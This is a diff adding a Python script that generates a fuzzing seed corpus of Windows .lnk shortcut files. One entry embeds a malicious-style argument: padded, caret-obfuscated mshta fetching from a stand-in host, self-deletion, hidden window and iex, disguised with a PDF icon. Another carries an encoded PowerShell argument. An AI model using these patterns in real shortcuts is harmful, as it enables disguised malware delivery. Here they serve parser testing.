@@ -1,0 +1,34 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""make-corpus.py FOLDER: the shortcuts that fuzzing starts from: one of each structure, each small.
+
+What a fuzzer found is put beside them by hand, under a name that says what it was.
+"""
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../share"))
+import make_lnk as m  # noqa: E402
+
+CMD = r"C:\Windows\System32\cmd.exe"
+CORPUS = {
+    "bare": m.link(),
+    "windows-like": m.windows_like(name="n", arguments="-a", icon="i.ico"),
+    "ansi": m.link(m.items_of(CMD), unicode=False, name="n", relative="r", directory="d", arguments="a", icon="i"),
+    "environment": m.link(blocks=[m.environment("%windir%\\a.exe")], flags=m.EXP_STRING, arguments="-enc aQBlAHgAIABhAGIAYwA="),
+    "icon-environment": m.link(blocks=[m.icon_environment("%x%\\a.pdf")], flags=m.EXP_ICON),
+    "blocks": m.link(blocks=[m.console(), m.tracker(), m.code_page(), m.special_folder(3), m.known_folder(), m.shim("L"),
+                             m.properties(2), m.vista_items(m.root(), m.volume(), m.entry("v.exe"))]),
+    "info-unicode": m.link(link_info=m.info(CMD, "s", unicode=True)),
+    "info-share": m.link(link_info=m.info_share("\\\\h\\s", "a.exe")),
+    "info-share-unicode": m.link(link_info=m.info_share("\\\\h@SSL\\s", "a.exe", unicode=True)),
+    "items": m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet("\\\\h\\a.dll"), m.network("\\\\h\\s"),
+                            m.uri("http://h/a"), m.entry("Long name.exe", short="LONGNA~1.EXE"))),
+    "two-ways": m.link(name="x" * 262, arguments="b"),
+    "command": m.link(link_info=m.info(CMD), arguments="/c" + " " * 9 + "m^s^h^ta http://h/ & del a.lnk -w hidden iex", icon="a.pdf"),
+    "overlay": m.link(overlay=b"MZ\0\0"),
+}
+
+if __name__ == "__main__":
+    for name, data in CORPUS.items():
+        with open(os.path.join(sys.argv[1], name + ".lnk"), "wb") as out:
+            out.write(data)
